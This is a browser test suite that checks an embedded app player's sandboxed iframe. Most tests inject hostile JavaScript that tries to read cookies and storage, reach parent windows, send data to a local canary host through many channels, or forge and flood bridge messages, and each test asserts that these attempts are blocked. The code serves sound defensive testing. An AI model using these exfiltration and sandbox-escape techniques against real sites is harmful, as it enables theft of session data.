import type { Browser, Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { type Site, awaitEvent, buildSite, eventsOf, frameOf, launch, openPlayer, serveCanary, serveSite } from "./browser.ts";
import { bind, query, sampleInit } from "./sample.ts";

let browser: Browser;
let site: Site;
let canary: Awaited<ReturnType<typeof serveCanary>>;
let page: Page;
let built: Awaited<ReturnType<typeof buildSite>>;

beforeAll(async () => {
  built = await buildSite();
  site = await serveSite(built.folder);
  canary = await serveCanary();
  browser = await launch();
});
afterAll(async () => {
  await browser?.close();
  await site?.close();
  await canary?.close();
  await built?.remove();
});
beforeEach(async () => {
  const context = await browser.newContext({ viewport: { width: 1000, height: 700 } });
  await context.addCookies([{ name: "tessera_session", value: "secret", url: site.origin, sameSite: "Lax" }]);
  page = await context.newPage();
  page.setDefaultTimeout(8_000);
  canary.visits.length = 0;
  site.strangers.length = 0;
});
afterEach(() => page.context().close());

/** A page whose binding runs hostile code, which leaves what it got in `globalThis.loot`. */
const hostile = (code: string): Parameters<typeof openPlayer>[2] =>
  sampleInit({ evil: { type: "label", rect: { x: 0, y: 0, w: 24, h: 4 }, props: { text: bind(`{{ (() => { const canary = "http://127.0.0.1:${canary.port}"; const home = "${site.origin}"; ${code} })() }}`) } } });

/** Code that tries something and notes `blocked`, or what it got. */
const attempt = (name: string, expression: string): string =>
  `globalThis.loot ??= {}; loot[${JSON.stringify(name)}] = "pending"; Promise.resolve().then(() => (${expression})).then((got) => (loot[${JSON.stringify(name)}] = got === undefined ? "blocked" : String(got)), () => (loot[${JSON.stringify(name)}] = "blocked"));`;

const element = (tag: string, fields: string, parent = "document.head"): string => `(() => { const element = document.createElement("${tag}"); ${fields} ${parent}.append(element); })()`;

describe("code of a page", () => {
  it("reaches no cookie, storage, shell, or other window", async () => {
    const tries = {
      cookie: "document.cookie", setCookie: "document.cookie = 'a=1'", localStorage: "localStorage.length", sessionStorage: "sessionStorage.length",
      indexedDB: "new Promise((ok, no) => { const open = indexedDB.open('a'); open.onsuccess = () => ok('opened'); open.onerror = no; })",
      caches: "caches.open('a')", cookieStore: "cookieStore.getAll()", opfs: "navigator.storage.getDirectory()", serviceWorker: "navigator.serviceWorker.register('/player/frame.js')", parentDom: "parent.document.title", topDom: "top.document.title",
      parentHarness: "parent.harness.host", parentStorage: "parent.localStorage.length", frameElement: "frameElement ? frameElement.id : undefined", locks: "navigator.locks.request('a', () => 'locked')",
      broadcast: "new Promise((ok, no) => { const channel = new BroadcastChannel('x'); channel.onmessage = () => ok('heard'); setTimeout(no, 300); })",
      popup: "window.open('about:blank') ?? undefined", alert: "alert('x')", topNavigation: "(() => { top.location.href = canary; })()", parentNavigation: "(() => { parent.location = canary; })()",
    };
    await openPlayer(page, site, hostile(`${Object.entries(tries).map(([name, code]) => attempt(name, code)).join(" ")} return 'ran';`));
    const frame = frameOf(page);
    await frame.getByText("ran").waitFor();
    await frame.waitForFunction(() => !Object.values((globalThis as unknown as { loot: Record<string, string> }).loot).includes("pending"));
    const loot = await frame.evaluate(() => (globalThis as unknown as { loot: Record<string, string> }).loot);
    expect(loot).toEqual(Object.fromEntries(Object.keys(tries).map((name) => [name, "blocked"])));
    expect(page.url()).toBe(`${site.origin}/`);
    expect(page.context().pages()).toHaveLength(1);
    expect(canary.visits).toEqual([]);
  });

  it("reaches no network", async () => {
    const url = "canary + '/x'";
    const tries: Record<string, string> = {
      fetch: `fetch(${url}, {mode: 'no-cors'})`, fetchHome: "fetch(home + '/api/v1/apps', {credentials: 'include'})", xhr: `new Promise((ok, no) => { const x = new XMLHttpRequest(); x.open('GET', ${url}); x.onload = () => ok('loaded'); x.onerror = no; x.send(); })`,
      webSocket: "new Promise((ok, no) => { const s = new WebSocket(canary.replace('http', 'ws')); s.onopen = () => ok('open'); s.onerror = no; })", eventSource: `new Promise((ok, no) => { const s = new EventSource(${url}); s.onopen = () => ok('open'); s.onerror = no; })`,
      image: `new Promise((ok, no) => { const i = new Image(); i.onload = () => ok('loaded'); i.onerror = no; i.src = ${url}; })`, importScript: `import(${url})`, importData: "import('data:text/javascript,export default 1').then(() => 'ran')",
      worker: "new Promise((ok, no) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = () => ok('ran'); w.onerror = no; })", homeWorker: "new Promise((ok, no) => { const w = new Worker(home + '/player/assets/x.js'); w.onmessage = () => ok('ran'); w.onerror = no; })",
      peer: "typeof RTCPeerConnection === 'undefined' ? undefined : 'there'", webTransport: "typeof WebTransport === 'undefined' ? undefined : 'there'", fontFace: `new FontFace('a', 'url(' + ${url} + ')').load()`,
      fetchLater: `typeof fetchLater === 'undefined' ? undefined : (fetchLater(${url}), undefined)`, share: "navigator.share({ url: canary })", payment: "new PaymentRequest([{ supportedMethods: canary }], { total: { label: 'x', amount: { currency: 'USD', value: '1' } } }).canMakePayment().then((can) => can || undefined)",
    };
    const silent = [
      `navigator.sendBeacon(${url}, 'x')`, element("link", `element.rel = 'prefetch'; element.href = ${url};`), element("link", `element.rel = 'stylesheet'; element.href = ${url};`), element("link", `element.rel = 'preload'; element.as = 'image'; element.href = ${url};`),
      element("link", `element.rel = 'modulepreload'; element.href = ${url};`), element("link", `element.rel = 'prerender'; element.href = ${url};`), element("link", `element.rel = 'icon'; element.href = ${url};`), element("link", `element.rel = 'manifest'; element.href = ${url};`),
      element("style", `element.textContent = '@import "' + ${url} + '"; body { background: url(' + ${url} + ') } @font-face { font-family: q; src: url(' + ${url} + ') } * { font-family: q }';`),
      element("iframe", `element.src = ${url};`, "document.body"), element("object", `element.data = ${url};`, "document.body"), element("embed", `element.src = ${url};`, "document.body"), element("video", `element.src = ${url};`, "document.body"),
      element("script", `element.src = ${url};`), element("script", "element.textContent = 'globalThis.inline = 1';"), element("script", `element.type = 'speculationrules'; element.textContent = JSON.stringify({ prefetch: [{ urls: [${url}] }] });`),
      element("form", `element.action = ${url}; element.method = 'post'; setTimeout(() => element.submit());`, "document.body"), element("a", `element.href = '#'; element.ping = ${url}; setTimeout(() => element.click());`, "document.body"),
      element("iframe", "element.srcdoc = '<script>new RTCPeerConnection()</' + 'script>';", "document.body"), element("svg", "element.innerHTML = '<image href=\"' + canary + '/svg\"/>';", "document.body"),
      element("meta", "element.httpEquiv = 'Content-Security-Policy'; element.content = \"default-src *\";"), element("base", "element.href = canary;"),
    ];
    await openPlayer(page, site, hostile(`${Object.entries(tries).map(([name, code]) => attempt(name, code)).join(" ")} ${silent.map((code) => `try { ${code} } catch (error) { void error; }`).join(" ")} return 'ran';`));
    const frame = frameOf(page);
    await frame.getByText("ran").waitFor();
    await frame.waitForFunction(() => !Object.values((globalThis as unknown as { loot: Record<string, string> }).loot).includes("pending"));
    const { loot, inline } = await frame.evaluate(() => {
      const own = globalThis as unknown as { loot: Record<string, string>; inline?: number };
      return { loot: own.loot, inline: own.inline };
    });
    expect(loot).toEqual(Object.fromEntries(Object.keys(tries).map((name) => [name, "blocked"])));
    expect(inline).toBeUndefined();
    // A visit that was on its way would be here by the time the shell has asked the same server for something.
    await fetch(`http://127.0.0.1:${canary.port}/marker`);
    expect(canary.visits.filter((visit) => visit !== "bytes")).toEqual(["GET /marker"]);
    expect(canary.visits.filter((visit) => visit === "bytes")).toHaveLength(1);
    expect(site.strangers.filter((request) => !request.includes("favicon"))).toEqual([]);
  });

  it("cannot carry data away by navigating its own frame", async () => {
    for (const code of ["location.href = canary + '/self'", "location.replace(canary + '/self')", "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=\"refresh\" content=\"0;url=' + canary + '/meta\">')"]) {
      await openPlayer(page, site, hostile(`setTimeout(() => { ${code} }, 50); return 'ran';`));
      const frame = page.frames().find((candidate) => candidate !== page.mainFrame());
      await expect.poll(() => frame?.url() ?? "gone").not.toMatch(/127\.0\.0\.1:\d+\/(self|meta)/);
      await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 200))));
      expect(canary.visits).toEqual([]);
      expect(page.url()).toBe(`${site.origin}/`);
    }
  });

  it("gets no answer for a query that its app does not have, and its floods and false messages are dropped", async () => {
    // Code of a page can catch the port when it stands in for what the frame uses; the shell must hold even then.
    await openPlayer(page, site, sampleInit({ evil: { type: "label", rect: { x: 0, y: 0, w: 24, h: 4 }, props: { text: bind(`{{ (() => {
      if (globalThis.done) return 'ran';
      globalThis.done = true;
      const original = MessagePort.prototype.postMessage;
      MessagePort.prototype.postMessage = function (...args) { if (args[0]?.type) globalThis.port = this; return original.apply(this, args); };
      const attack = setInterval(() => {
        if (!globalThis.port) return;
        clearInterval(attack);
        const send = (message) => original.call(port, message);
        send({ type: 'runQuery', callId: 900, query: 'secret', inputs: {} });
        send({ type: 'runQuery', callId: 901, query: '__proto__', inputs: {} });
        send({ type: 'navigate', page: 'elsewhere', params: {} });
        send({ type: 'ready', bridgeVersion: 1 });
        send({ type: 'layoutChanged', breakpoint: 'huge', rects: {} });
        send({ type: 'selected', nodes: ['__proto__ x'], additive: 1 });
        send('text'); send(null); send({ type: 'constructor' });
        for (let i = 0; i < 2000; i += 1) send({ type: 'notify', level: 'info', message: 'n' + i });
      }, 10);
      return 'ran';
    })() }}`) } } }, { queries: { known: query("known", { trigger: "manual" }) } }));
    await awaitEvent(page, "notify");
    await page.waitForFunction(() => window.harness.events.some((event) => event.code === "player.flood"));
    const problems = (await eventsOf(page, "problem")).map((problem) => problem.code);
    expect(problems.filter((code) => code === "player.query-unknown")).toHaveLength(2);
    expect(problems).toContain("player.page-unknown");
    expect(problems.filter((code) => code === "player.bad-message").length).toBeGreaterThanOrEqual(5);
    expect((await eventsOf(page, "notify")).length).toBeLessThanOrEqual(40);
    expect(await page.evaluate(() => window.harness.calls)).toEqual([]);
    expect(await eventsOf(page, "navigate")).toEqual([]);
  });

  it("is not listened to when it speaks for another window", async () => {
    const frame = await openPlayer(page, site, hostile("parent.postMessage({ type: 'notify', level: 'info', message: 'x' }, '*'); return 'ran';"));
    await frame.getByText("ran").waitFor();
    expect(await eventsOf(page, "notify")).toEqual([]);
    const second = await frame.evaluate(() => new Promise((resolve) => {
      const { port1, port2 } = new MessageChannel();
      port1.onmessage = () => resolve("took a second port");
      window.postMessage({ type: "tessera-player", bridgeVersion: 1 }, "*", [port2]);
      setTimeout(() => resolve("ignored"), 200);
    }));
    expect(second).toBe("ignored");
  });
});
